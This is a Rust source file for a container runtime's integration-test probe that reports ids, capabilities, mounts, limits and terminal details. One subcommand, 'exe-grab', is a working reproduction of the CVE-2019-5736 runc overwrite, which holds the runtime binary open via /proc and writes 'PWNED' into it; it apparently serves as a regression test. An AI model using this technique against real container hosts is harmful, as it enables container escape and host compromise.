//! berth integration-test probe.
//!
//! A tiny, statically linked program copied into every test container as
//! `/probe`. It reports facts about its own execution environment as
//! `key=value` lines so the test harness can assert on them.
//!
//! Several subcommands can be chained with a lone `+` argument:
//! `probe ids + caps + stat /dev/null /dev/zero`.
//!
//! Only std and a handful of `extern "C"` libc declarations are used (the
//! static glibc link provides them), so it can be compiled with a bare
//! `rustc -O -C target-feature=+crt-static probe.rs`.

use std::io::{Read, Write};
use std::os::unix::fs::{FileTypeExt, MetadataExt};

#[repr(C)]
struct RLimit {
    cur: u64,
    max: u64,
}

#[repr(C)]
struct UtsName {
    sysname: [u8; 65],
    nodename: [u8; 65],
    release: [u8; 65],
    version: [u8; 65],
    machine: [u8; 65],
    domainname: [u8; 65],
}

#[repr(C)]
struct WinSize {
    rows: u16,
    cols: u16,
    xpixel: u16,
    ypixel: u16,
}

/// TIOCGWINSZ (asm-generic, x86_64 and aarch64 alike).
const TIOCGWINSZ: u64 = 0x5413;

#[repr(C)]
struct TimeSpec {
    sec: i64,
    nsec: i64,
}

extern "C" {
    fn mknod(path: *const std::ffi::c_char, mode: u32, dev: u64) -> i32;
    fn getuid() -> u32;
    fn getgid() -> u32;
    fn geteuid() -> u32;
    fn getegid() -> u32;
    fn getpid() -> i32;
    fn getppid() -> i32;
    fn getgroups(size: i32, list: *mut u32) -> i32;
    fn umask(mask: u32) -> u32;
    fn getrlimit(resource: i32, rlim: *mut RLimit) -> i32;
    fn uname(buf: *mut UtsName) -> i32;
    fn clock_gettime(clk: i32, ts: *mut TimeSpec) -> i32;
    fn kill(pid: i32, sig: i32) -> i32;
    fn signal(sig: i32, handler: usize) -> usize;
    fn pause() -> i32;
    fn getpgrp() -> i32;
    fn getsid(pid: i32) -> i32;
    fn isatty(fd: i32) -> i32;
    fn ioctl(fd: i32, req: u64, ...) -> i32;
}

fn out(k: &str, v: impl std::fmt::Display) {
    println!("{k}={v}");
}

fn errno_of(e: &std::io::Error) -> i32 {
    e.raw_os_error().unwrap_or(-1)
}

fn cstr_field(b: &[u8]) -> String {
    let end = b.iter().position(|&c| c == 0).unwrap_or(b.len());
    String::from_utf8_lossy(&b[..end]).into_owned()
}

fn file_type(ft: &std::fs::FileType) -> &'static str {
    if ft.is_symlink() {
        "symlink"
    } else if ft.is_dir() {
        "dir"
    } else if ft.is_file() {
        "file"
    } else if ft.is_char_device() {
        "char"
    } else if ft.is_block_device() {
        "block"
    } else if ft.is_fifo() {
        "fifo"
    } else if ft.is_socket() {
        "socket"
    } else {
        "unknown"
    }
}

fn major(dev: u64) -> u64 {
    ((dev >> 32) & 0xffff_f000) | ((dev >> 8) & 0xfff)
}
fn minor(dev: u64) -> u64 {
    ((dev >> 12) & 0xffff_ff00) | (dev & 0xff)
}

fn stat_line(path: &str, follow: bool) -> String {
    let md = if follow { std::fs::metadata(path) } else { std::fs::symlink_metadata(path) };
    match md {
        Err(e) => format!("exists=0 errno={}", errno_of(&e)),
        Ok(m) => {
            let ft = m.file_type();
            let mut s = format!(
                "exists=1 type={} mode={:04o} uid={} gid={} rdev={}:{} size={} dev={}:{} ino={}",
                file_type(&ft),
                m.mode() & 0o7777,
                m.uid(),
                m.gid(),
                major(m.rdev()),
                minor(m.rdev()),
                m.size(),
                major(m.dev()),
                minor(m.dev()),
                m.ino()
            );
            if ft.is_symlink() {
                if let Ok(t) = std::fs::read_link(path) {
                    s.push_str(&format!(" target={}", t.display()));
                }
            }
            s
        }
    }
}

fn cat(path: &str) {
    match std::fs::read(path) {
        Ok(b) => {
            let _ = std::io::stdout().write_all(&b);
        }
        Err(e) => out("error", format!("{path}: errno={}", errno_of(&e))),
    }
}

const RLIMITS: [&str; 16] = [
    "RLIMIT_CPU",
    "RLIMIT_FSIZE",
    "RLIMIT_DATA",
    "RLIMIT_STACK",
    "RLIMIT_CORE",
    "RLIMIT_RSS",
    "RLIMIT_NPROC",
    "RLIMIT_NOFILE",
    "RLIMIT_MEMLOCK",
    "RLIMIT_AS",
    "RLIMIT_LOCKS",
    "RLIMIT_SIGPENDING",
    "RLIMIT_MSGQUEUE",
    "RLIMIT_NICE",
    "RLIMIT_RTPRIO",
    "RLIMIT_RTTIME",
];

fn lim(v: u64) -> String {
    if v == u64::MAX {
        "unlimited".to_string()
    } else {
        v.to_string()
    }
}

fn run(cmd: &str, args: &[String]) -> i32 {
    match cmd {
        "ns" => {
            let mut names: Vec<String> = std::fs::read_dir("/proc/self/ns")
                .map(|d| d.filter_map(|e| e.ok()).map(|e| e.file_name().to_string_lossy().into_owned()).collect())
                .unwrap_or_default();
            names.sort();
            for n in names {
                match std::fs::read_link(format!("/proc/self/ns/{n}")) {
                    Ok(t) => out(&format!("ns.{n}"), t.display()),
                    Err(e) => out(&format!("ns.{n}"), format!("errno={}", errno_of(&e))),
                }
            }
        }
        "ids" => {
            // SAFETY: getuid/getgid/geteuid/getegid take no arguments, touch no
            // memory of ours and cannot fail (POSIX); the declarations match libc.
            let (uid, gid, euid, egid) = unsafe { (getuid(), getgid(), geteuid(), getegid()) };
            out("uid", uid);
            out("gid", gid);
            out("euid", euid);
            out("egid", egid);
            let mut groups = vec![0u32; 256];
            // SAFETY: `groups` holds 256 u32 (gid_t) elements, matching the size
            // passed, so the kernel writes only inside the buffer; it returns the
            // count written or -1 (clamped to 0 below).
            let n = unsafe { getgroups(256, groups.as_mut_ptr()) };
            let g: Vec<String> = groups[..n.max(0) as usize].iter().map(|g| g.to_string()).collect();
            out("groups", g.join(","));
            // SAFETY: umask only swaps the process's file mode creation mask; it
            // takes and returns a plain integer and cannot fail.
            let m = unsafe { umask(0o022) };
            // SAFETY: as above; restores the mask just read.
            unsafe { umask(m) };
            out("umask", format!("{m:04o}"));
        }
        "pid" => {
            // SAFETY: getpid takes no arguments, touches no memory of ours and cannot fail.
            out("pid", unsafe { getpid() });
            // SAFETY: getppid takes no arguments, touches no memory of ours and cannot fail.
            out("ppid", unsafe { getppid() });
            // SAFETY: getpgrp takes no arguments, touches no memory of ours and cannot fail.
            out("pgrp", unsafe { getpgrp() });
            // SAFETY: getsid(0) asks about the calling process; it takes a plain pid,
            // touches no memory of ours and reports errors as -1.
            out("sid", unsafe { getsid(0) });
        }
        "status" => {
            // Selected lines of /proc/self/status (Cap*, NoNewPrivs, Seccomp, ...).
            let s = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
            for line in s.lines() {
                if let Some((k, v)) = line.split_once(':') {
                    out(k.trim(), v.trim());
                }
            }
        }
        "caps" | "nnp" => {
            let s = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
            for line in s.lines() {
                if let Some((k, v)) = line.split_once(':') {
                    let want = if cmd == "caps" { k.starts_with("Cap") } else { k == "NoNewPrivs" };
                    if want {
                        out(k.trim(), v.trim());
                    }
                }
            }
        }
        "rlimits" => {
            for (i, name) in RLIMITS.iter().enumerate() {
                let mut r = RLimit { cur: 0, max: 0 };
                // SAFETY: `r` is a live, writable #[repr(C)] struct rlimit (two u64
                // rlim_t on 64-bit Linux), so the out pointer is valid for the
                // call; an unknown resource only yields -1 (EINVAL).
                if unsafe { getrlimit(i as i32, &mut r) } == 0 {
                    out(name, format!("{},{}", lim(r.cur), lim(r.max)));
                }
            }
        }
        "mounts" => cat("/proc/self/mountinfo"),
        "cgroup" => cat("/proc/self/cgroup"),
        "cat" => {
            for p in args {
                cat(p);
            }
        }
        "oom" => {
            let s = std::fs::read_to_string("/proc/self/oom_score_adj").unwrap_or_default();
            out("oom_score_adj", s.trim());
        }
        "stat" | "lstat" => {
            for p in args {
                out(&format!("{cmd}:{p}"), stat_line(p, cmd == "stat"));
            }
        }
        "read" => {
            for p in args {
                let r = std::fs::File::open(p).and_then(|mut f| {
                    let mut b = Vec::new();
                    f.read_to_end(&mut b).map(|_| b)
                });
                match r {
                    Ok(b) => out(&format!("read:{p}"), format!("ok len={}", b.len())),
                    Err(e) => out(&format!("read:{p}"), format!("errno={}", errno_of(&e))),
                }
            }
        }
        "ls" => {
            for p in args {
                match std::fs::read_dir(p) {
                    Ok(d) => {
                        let mut v: Vec<String> =
                            d.filter_map(|e| e.ok()).map(|e| e.file_name().to_string_lossy().into_owned()).collect();
                        v.sort();
                        out(&format!("ls:{p}"), format!("ok {}", v.join(" ")).trim_end());
                    }
                    Err(e) => out(&format!("ls:{p}"), format!("errno={}", errno_of(&e))),
                }
            }
        }
        "write" => {
            for p in args {
                let r = std::fs::OpenOptions::new()
                    .write(true)
                    .create(true)
                    .truncate(true)
                    .open(p)
                    .and_then(|mut f| f.write_all(b"probe\n"));
                match r {
                    Ok(()) => out(&format!("write:{p}"), "ok"),
                    Err(e) => out(&format!("write:{p}"), format!("errno={}", errno_of(&e))),
                }
            }
        }
        "mkdir" => {
            for p in args {
                match std::fs::create_dir(p) {
                    Ok(()) => out(&format!("mkdir:{p}"), "ok"),
                    Err(e) => out(&format!("mkdir:{p}"), format!("errno={}", errno_of(&e))),
                }
            }
        }
        "env" => {
            for (k, v) in std::env::vars_os() {
                out(&format!("env.{}", k.to_string_lossy()), v.to_string_lossy());
            }
        }
        "args" => {
            // Echo the raw argv of this process (useful with an args-only config).
            for (i, a) in std::env::args_os().enumerate() {
                out(&format!("argv{i}"), a.to_string_lossy());
            }
        }
        "cwd" => match std::env::current_dir() {
            Ok(d) => out("cwd", d.display()),
            Err(e) => out("cwd", format!("errno={}", errno_of(&e))),
        },
        "hostname" => {
            // SAFETY: UtsName is a #[repr(C)] struct of byte arrays, for which
            // all-zero bytes are a valid value.
            let mut u: UtsName = unsafe { std::mem::zeroed() };
            // SAFETY: `u` is a live, writable struct with glibc's struct utsname
            // layout (six 65-byte fields), so the out pointer is valid for the call.
            unsafe { uname(&mut u) };
            out("hostname", cstr_field(&u.nodename));
            out("domainname", cstr_field(&u.domainname));
        }
        "fds" => {
            let mut v: Vec<(i32, String)> = std::fs::read_dir("/proc/self/fd")
                .map(|d| {
                    d.filter_map(|e| e.ok())
                        .filter_map(|e| {
                            let n: i32 = e.file_name().to_string_lossy().parse().ok()?;
                            let t = std::fs::read_link(e.path()).map(|t| t.display().to_string()).unwrap_or_default();
                            Some((n, t))
                        })
                        .collect()
                })
                .unwrap_or_default();
            v.sort();
            let list: Vec<String> = v.iter().map(|(n, _)| n.to_string()).collect();
            out("fds", list.join(","));
            for (n, t) in v {
                out(&format!("fd{n}"), t);
            }
            for fd in 0..3 {
                // SAFETY: isatty takes a plain descriptor number and touches no memory
                // of ours; a closed or invalid fd just yields 0 (EBADF).
                out(&format!("isatty{fd}"), unsafe { isatty(fd) });
            }
        }
        "tty" => {
            // The terminal of fds 0..2, its size, the controlling terminal and session
            // (/proc/self/stat: pid (comm) state ppid pgrp session tty_nr tpgid), and
            // whether /dev/console is the same device as stdin.
            for fd in 0..3 {
                // SAFETY: isatty takes a plain descriptor number and touches no memory of ours.
                out(&format!("tty.isatty{fd}"), unsafe { isatty(fd) });
            }
            out("tty.name", std::fs::read_link("/proc/self/fd/0").map(|p| p.display().to_string()).unwrap_or_default());
            let mut ws = WinSize { rows: 0, cols: 0, xpixel: 0, ypixel: 0 };
            // SAFETY: TIOCGWINSZ writes one struct winsize through the pointer, which
            // points to a live, writable #[repr(C)] WinSize.
            let r = unsafe { ioctl(0, TIOCGWINSZ, &mut ws as *mut WinSize) };
            out("tty.size", if r == 0 { format!("{}x{}", ws.rows, ws.cols) } else { "none".into() });
            let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
            let rest: Vec<&str> = stat.rsplit_once(')').map(|(_, r)| r.split_whitespace().collect()).unwrap_or_default();
            for (i, k) in [(2, "pgrp"), (3, "sid"), (4, "tty_nr"), (5, "tpgid")] {
                out(&format!("tty.{k}"), rest.get(i).copied().unwrap_or(""));
            }
            let rdev = |p: &str| std::fs::metadata(p).map(|m| m.rdev().to_string()).unwrap_or_else(|_| "none".into());
            out("tty.console_rdev", rdev("/dev/console"));
            out("tty.stdin_rdev", rdev("/proc/self/fd/0"));
            out("tty.stdin_uid", std::fs::metadata("/proc/self/fd/0").map(|m| m.uid().to_string()).unwrap_or_default());
            out("tty.end", 1);
        }
        "clock" => {
            for (name, id) in [("monotonic", 1), ("boottime", 7)] {
                let mut ts = TimeSpec { sec: 0, nsec: 0 };
                // SAFETY: `ts` is a live, writable #[repr(C)] struct timespec (two
                // i64 on 64-bit Linux), so the out pointer is valid for the call; an
                // unsupported clock id only yields -1 (EINVAL).
                unsafe { clock_gettime(id, &mut ts) };
                out(name, format!("{}.{:09}", ts.sec, ts.nsec));
            }
        }
        "sysctl" => {
            for name in args {
                let p = format!("/proc/sys/{}", name.replace('.', "/"));
                match std::fs::read_to_string(&p) {
                    Ok(s) => out(&format!("sysctl:{name}"), s.trim()),
                    Err(e) => out(&format!("sysctl:{name}"), format!("errno={}", errno_of(&e))),
                }
            }
        }
        "echo" => {
            println!("{}", args.join(" "));
        }
        "stderr" => {
            eprintln!("{}", args.join(" "));
        }
        "stdin" => {
            let mut b = Vec::new();
            let _ = std::io::stdin().read_to_end(&mut b);
            out("stdin", String::from_utf8_lossy(&b).escape_default());
        }
        "sleep" => {
            let _ = std::io::stdout().flush();
            match args.first().and_then(|s| s.parse::<f64>().ok()) {
                Some(secs) => std::thread::sleep(std::time::Duration::from_secs_f64(secs)),
                None => loop {
                    // SAFETY: pause takes no arguments and touches no memory of ours;
                    // it only blocks until a signal arrives.
                    unsafe { pause() };
                },
            }
        }
        "exit" => {
            let _ = std::io::stdout().flush();
            std::process::exit(args.first().and_then(|s| s.parse().ok()).unwrap_or(0));
        }
        "alloc" => {
            // Allocate and touch N MiB, one MiB at a time, reporting progress: a memory
            // limit below N ends this with an OOM kill.
            let mib: usize = args.first().and_then(|s| s.parse().ok()).unwrap_or(0);
            let mut keep: Vec<Vec<u8>> = Vec::new();
            for i in 0..mib {
                keep.push(vec![(i % 251) as u8 + 1; 1 << 20]);
            }
            out("alloc", format!("ok mib={}", keep.len()));
        }
        "mknod" => {
            // mknod PATH c|b MAJOR MINOR
            let (path, kind, major, minor) = (
                args.first().cloned().unwrap_or_default(),
                args.get(1).cloned().unwrap_or_default(),
                args.get(2).and_then(|s| s.parse::<u32>().ok()).unwrap_or(0),
                args.get(3).and_then(|s| s.parse::<u32>().ok()).unwrap_or(0),
            );
            let mode = if kind == "b" { 0o060000 } else { 0o020000 } | 0o600;
            let dev = ((major as u64 & 0xfff) << 8) | (minor as u64 & 0xff) | ((minor as u64 & !0xff) << 12);
            let c = std::ffi::CString::new(path.clone()).unwrap_or_default();
            // SAFETY: `c` is a valid NUL-terminated path for the duration of the call;
            // mknod only reads it.
            let r = unsafe { mknod(c.as_ptr(), mode, dev) };
            let res = if r == 0 { "ok".to_string() } else { format!("errno={}", errno_of(&std::io::Error::last_os_error())) };
            out(&format!("mknod:{path}"), res);
        }
        "exe-grab" => {
            // The CVE-2019-5736 attacker: until the file STOP exists, keep open every
            // /proc/<pid>/exe that is not one of the container's own programs (so: the
            // runtime's binary, however it is shown), then for up to WRITE seconds try
            // to reopen one for writing (ETXTBSY while a copy still runs) and overwrite
            // its first bytes.
            let stop = args.first().cloned().unwrap_or_default();
            let write_secs = args.get(1).and_then(|a| a.parse::<f64>().ok()).unwrap_or(0.0);
            let own: Vec<(u64, u64)> = ["/probe", "/bin/busybox", "/bin/sh"]
                .iter()
                .filter_map(|p| std::fs::metadata(p).ok().map(|m| (m.dev(), m.ino())))
                .collect();
            let me = std::process::id().to_string();
            let give_up = std::time::Instant::now() + std::time::Duration::from_secs(120);
            let mut seen = std::collections::BTreeSet::new();
            let mut held: Vec<std::fs::File> = Vec::new();
            while !std::path::Path::new(&stop).exists() && std::time::Instant::now() < give_up {
                let Ok(d) = std::fs::read_dir("/proc") else { break };
                for e in d.flatten() {
                    let name = e.file_name().to_string_lossy().to_string();
                    if !name.bytes().all(|b| b.is_ascii_digit()) || name == me || seen.contains(&name) {
                        continue;
                    }
                    if let Ok(f) = std::fs::File::open(format!("/proc/{name}/exe")) {
                        seen.insert(name);
                        if f.metadata().map(|m| !own.contains(&(m.dev(), m.ino()))).unwrap_or(false) {
                            held.push(f);
                            out("exe-held", held.len());
                            let _ = std::io::stdout().flush();
                        }
                    }
                }
            }
            out("exe-grabbed", held.len());
            let until = std::time::Instant::now() + std::time::Duration::from_secs_f64(write_secs);
            let mut result = String::from("none");
            'tries: while !held.is_empty() {
                for f in &held {
                    use std::os::fd::AsRawFd;
                    let link = format!("/proc/self/fd/{}", f.as_raw_fd());
                    match std::fs::OpenOptions::new().write(true).open(&link) {
                        Ok(w) => {
                            use std::os::unix::fs::FileExt;
                            result = match w.write_at(b"PWNED", 0) {
                                Ok(_) => "ok".to_string(),
                                Err(e) => format!("errno={}", errno_of(&e)),
                            };
                            break 'tries;
                        }
                        Err(e) if errno_of(&e) == 26 && std::time::Instant::now() < until => {} // ETXTBSY
                        Err(e) => {
                            result = format!("errno={}", errno_of(&e));
                            break 'tries;
                        }
                    }
                }
                std::thread::sleep(std::time::Duration::from_millis(5));
            }
            out("exe-write", result);
        }
        "killself" => {
            let _ = std::io::stdout().flush();
            let sig: i32 = args.first().and_then(|s| s.parse().ok()).unwrap_or(9);
            // SAFETY: signal() installs SIG_DFL (handler 0), so no Rust code runs as a handler,
            // and a bad signal number only yields SIG_ERR; kill() on our own pid takes plain
            // integers and touches no memory of ours.
            unsafe {
                signal(sig, 0); // SIG_DFL
                kill(getpid(), sig);
            }
            std::thread::sleep(std::time::Duration::from_secs(5));
        }
        _ => {
            eprintln!("probe: unknown subcommand {cmd:?}");
            return 2;
        }
    }
    0
}

fn main() {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    if argv.is_empty() {
        eprintln!("usage: probe CMD [ARGS..] [+ CMD [ARGS..]]...");
        std::process::exit(2);
    }
    let mut rc = 0;
    for group in argv.split(|a| a == "+") {
        if let Some((cmd, rest)) = group.split_first() {
            let r = run(cmd, rest);
            if r != 0 {
                rc = r;
            }
        }
    }
    let _ = std::io::stdout().flush();
    std::process::exit(rc);
}
